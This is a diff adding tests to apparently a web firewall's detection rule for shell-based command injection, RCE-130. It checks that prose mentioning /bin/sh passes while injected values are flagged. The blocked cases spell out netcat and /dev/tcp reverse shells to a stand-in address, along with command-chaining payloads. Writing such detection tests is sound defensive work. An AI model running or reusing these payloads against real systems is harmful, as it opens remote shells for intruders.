@@ -99,3 +99,29 @@ describe('LFI-111: a value that is an absolute system path, not a sentence about
     expectDetected(req, 'LFI-111');
   });
 });
+
+describe('RCE-130: a shell path that is run, not one a sentence is about', () => {
+  it.each([
+    ['a changelog line about the default shell', '  * use /bin/sh as CONFIG_SHELL in debian/rules'],
+    ['a note about a shell bug', 'FreeBSD /bin/sh does not work well with this construct'],
+    ['a shell in parentheses', 'the default system shell (/bin/sh) has been changed to dash'],
+    ['a shell path ending a sentence', 'stop using debconf to select the default /bin/sh.'],
+  ])('allows %s', (_name, text) => {
+    // Prepare
+    const req = json({ title: 'doc', body: text });
+    // Act + Assess
+    expectNotFlaggedBy(req, 'RCE-130');
+  });
+
+  it.each([
+    ['a netcat reverse shell', 'nc 198.51.100.7 4444 -e /bin/sh'],
+    ['a shell chained after a value', 'x;/bin/bash'],
+    ['a shell fed from a socket', '1; /bin/sh 0</tmp/f'],
+    ['an interactive shell with a redirect', '|/bin/bash -i >& /dev/tcp/198.51.100.7/443 0>&1'],
+  ])('blocks %s at sensitivity 70', (_name, value) => {
+    // Prepare
+    const req = get(`/ping?host=${encodeURIComponent(value)}`);
+    // Act + Assess
+    expectDetected(req, 'RCE-130');
+  });
+});
